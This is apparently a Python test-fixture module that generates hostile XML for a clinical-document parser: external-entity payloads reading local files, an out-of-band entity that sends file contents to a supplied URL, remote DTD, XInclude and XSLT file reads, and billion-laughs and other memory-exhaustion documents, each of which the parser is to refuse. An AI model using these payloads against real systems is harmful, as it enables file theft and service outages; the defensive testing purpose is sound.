"""XML that tries to read a file, call a server or fill the memory of whoever parses it; each made here."""

from __future__ import annotations

import os
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable

_LONG = 60_000 if "GALIEN_FAULT_COUNT" in os.environ else 12_000
"""Thousands of octets of the long documents: 60 MB in the long suite, over the limit of one text at least."""
_CDA = 'xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
_XSL = "http://www.w3.org/1999/XSL/Transform"


def document(body: str = "", head: str = "", attributes: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{head}<ClinicalDocument {_CDA} {attributes}>{body}</ClinicalDocument>'
    )


def reaching(url: str, file: str) -> dict[str, bytes]:
    """Return documents that ask for ``file`` or ``url`` while they are parsed (H1): each must be refused."""
    at = f"file://{file}"
    heads = {
        "external entity": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{at}">]>',
        "external entity, path": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{file}">]>',
        "entity of the network": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{url}/x">]>',
        "entity by ftp": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{url.replace("http", "ftp")}/x">]>',
        "public entity": f'<!DOCTYPE a [<!ENTITY x PUBLIC "-//X//Y" "{at}">]>',
        "parameter entity": f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{at}"> %p; <!ENTITY x "a">]>',
        "parameter entity of the network": f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{url}/p.dtd"> %p; <!ENTITY x "a">]>',
        "out of band": (
            f'<!DOCTYPE a [<!ENTITY % f SYSTEM "{at}"><!ENTITY % p "<!ENTITY &#37; s SYSTEM \'{url}/?%f;\'>">'
            '%p;%s;<!ENTITY x "a">]>'
        ),
        "remote DTD": f'<!DOCTYPE a SYSTEM "{url}/a.dtd">',
        "local DTD": f'<!DOCTYPE a SYSTEM "{at}">',
        "public DTD": f'<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{url}/xhtml1-strict.dtd">',
        "internal entity": '<!DOCTYPE a [<!ENTITY x "a">]>',
        "empty DTD": "<!DOCTYPE a [<!ENTITY x 'a'>]>",
        "attribute defaults": '<!DOCTYPE a [<!ATTLIST ClinicalDocument x CDATA "a"><!ENTITY x "a">]>',
        "unparsed entity": f'<!DOCTYPE a [<!NOTATION n SYSTEM "{url}"><!ENTITY x SYSTEM "{at}" NDATA n>]>',
        "after a comment": f'<!-- a --><?a b?>\n<!DOCTYPE a [<!ENTITY x SYSTEM "{at}">]>',
        "lower case": f'<!doctype a [<!entity x SYSTEM "{at}">]>',
        "no root name": f'<!DOCTYPE [<!ENTITY x SYSTEM "{at}">]>',
        "line feeds": f'<!DOCTYPE\n\n a\n[\n<!ENTITY\nx\nSYSTEM\n"{at}"\n>\n]\n>',
    }
    made = {name: document("<title>&x;</title>", head).encode() for name, head in heads.items()}
    worst = heads["external entity"]
    told = document("<title>&x;</title>", worst)
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp037", "utf-8-sig"):
        octets = told.encode(encoding)
        made[f"in {encoding}"] = octets
        made[f"in {encoding}, which it says"] = told.replace('"UTF-8"', f'"{encoding}"').encode(encoding)
    made["in latin-1, which it says"] = told.replace("UTF-8", "ISO-8859-1").encode("latin-1")
    made["without declaration"] = told.partition("\n")[2].encode()
    made["version 1.1"] = told.replace('"1.0"', '"1.1"').encode()
    made["standalone"] = told.replace("?>", ' standalone="no"?>', 1).encode()
    made["after the root"] = (document() + worst).encode()
    made["in the root"] = document(worst + "&x;").encode()
    made["conditional section"] = document("<![INCLUDE[<!ENTITY x 'a'>]]>&x;").encode()
    made["undeclared entity"] = document("<title>&x;</title>").encode()
    return made


def inert(url: str, file: str) -> dict[str, bytes]:
    """Return documents that name ``file`` or ``url`` where only a careless reader would follow them (H1)."""
    include = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    bodies = {
        "XInclude": f'<title {include}><xi:include href="file://{file}" parse="text"/></title>',
        "XInclude of the network": f'<title {include}><xi:include href="{url}/x"/></title>',
        "XInclude fallback": (
            f'<title {include}><xi:include href="/none"><xi:fallback><xi:include href="{file}" parse="text"/>'
            "</xi:fallback></xi:include></title>"
        ),
        "reference": f'<title>a</title><text><reference value="file://{file}"/></text>',
        "media": f'<value mediaType="image/png"><reference value="{url}/a.png"/></value>',
        "telecom": f'<telecom value="{url}/"/>',
    }
    made = {name: document(body).encode() for name, body in bodies.items()}
    attributes = {
        "schemaLocation": f'xsi:schemaLocation="urn:hl7-org:v3 {url}/cda.xsd"',
        "schemaLocation of a file": f'xsi:schemaLocation="urn:hl7-org:v3 file://{file}"',
        "noNamespaceSchemaLocation": f'xsi:noNamespaceSchemaLocation="{url}/cda.xsd"',
        "xml:base": f'xml:base="{url}/"',
    }
    made |= {name: document("<title>a</title>", attributes=told).encode() for name, told in attributes.items()}
    heads = {
        "stylesheet": f'<?xml-stylesheet type="text/xsl" href="{url}/a.xsl"?>',
        "stylesheet of a file": f'<?xml-stylesheet type="text/xsl" href="file://{file}"?>',
        "model": f'<?xml-model href="{url}/a.rng"?>',
    }
    made |= {name: document("<title>a</title>", head).encode() for name, head in heads.items()}
    inner = document("<title>a</title>").partition("\n")[2]
    for name, top in {
        "import": f'<xsl:import href="{url}/a.xsl"/>',
        "include": f'<xsl:include href="file://{file}"/>',
        "document()": f"<xsl:template match='/'><xsl:copy-of select=\"document('{url}')\"/></xsl:template>",
        "unparsed-text()": f"<xsl:variable name='a' select=\"unparsed-text('file://{file}')\"/>",
    }.items():
        sheet = f'<xsl:stylesheet version="1.0" xmlns:xsl="{_XSL}">{top}{inner}</xsl:stylesheet>'
        made[f"stylesheet with {name}"] = sheet.encode()
    return made


def _laughs() -> bytes:
    told = "".join(f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 12))
    return document("&a11;", f'<!DOCTYPE a [<!ENTITY a0 "ha">{told}]>').encode()


def _filled(head: bytes, piece: bytes, times: int, tail: bytes) -> bytes:
    return head + piece * times + tail


WEIGHTS: dict[str, Callable[[], bytes]] = {
    "billion laughs": _laughs,
    "quadratic": lambda: document("&a;" * 20_000, f'<!DOCTYPE a [<!ENTITY a "{"a" * 100_000}">]>').encode(),
    "parameter laughs": lambda: document("", "<!DOCTYPE a [<!ENTITY % a 'a'>" + "%a;" * 100_000 + "]>").encode(),
    "depth 100 000": lambda: b"<a>" * 100_000 + b"</a>" * 100_000,
    "depth 100 000, not closed": lambda: b"<a>" * 100_000,
    "depth 2 000 beside a long text": lambda: _filled(
        b"<r>" + b"<a>" * 2000 + b"</a>" * 2000 + b"<t>", b"A" * 1000, _LONG, b"</t></r>"
    ),
    "a million attributes": lambda: b"<a " + b" ".join(b'a%d="1"' % n for n in range(1_000_000)) + b"/>",
    "300 000 attributes": lambda: b"<a " + b" ".join(b'a%d="1"' % n for n in range(300_000)) + b"/>",
    "a million elements": lambda: _filled(b"<a>", b"<b/>", 1_000_000, b"</a>"),
    "a million elements with an attribute": lambda: _filled(b"<a>", b'<b c="1"/>', 1_000_000, b"</a>"),
    "a million spaces": lambda: b"<a " + b" ".join(b'xmlns:a%d="u"' % n for n in range(1_000_000)) + b"/>",
    "a million comments": lambda: _filled(b"<a>", b"<!---->", 1_000_000, b"</a>"),
    "100 MB of text": lambda: _filled(b"<a>", b"text " * 200, 100_000, b"</a>"),
    "long text": lambda: _filled(b"<a>", b"t-xt " * 200, _LONG, b"</a>"),
    "long a comment": lambda: _filled(b"<a><!--", b"text " * 200, _LONG, b"--></a>"),
    "long CDATA": lambda: _filled(b"<a><![CDATA[", b"t-xt " * 200, _LONG, b"]]></a>"),
    "long an instruction": lambda: _filled(b"<a><?a ", b"t-xt " * 200, _LONG, b"?></a>"),
    "long an attribute": lambda: _filled(b'<a b="', b"text " * 200, _LONG, b'"/>'),
    "long a name": lambda: _filled(b"<", b"a" * 1000, _LONG, b"/>"),
    "long spaces in a tag": lambda: _filled(b"<a", b" " * 1000, _LONG, b"/>"),
    "long before the root": lambda: _filled(b"", b" " * 1000, _LONG, b"x"),
    "20 MB of a name": lambda: _filled(b"<", b"a" * 1000, 9_000, b"/>"),
    "long in UTF-16": lambda: _filled(b"\xff\xfe<\x00a\x00>\x00", b"A\x00" * 1000, _LONG // 2, b""),
    "long zeros": lambda: bytes(_LONG * 1000),
    "long noise": lambda: bytes(range(1, 256)) * 4 * _LONG,
    "7 MB of UTF-16": lambda: ("<a>" + "é" * 3_500_000).encode("utf-16"),
}
"""Documents made to take all the time or memory there is (H2): each must be refused."""
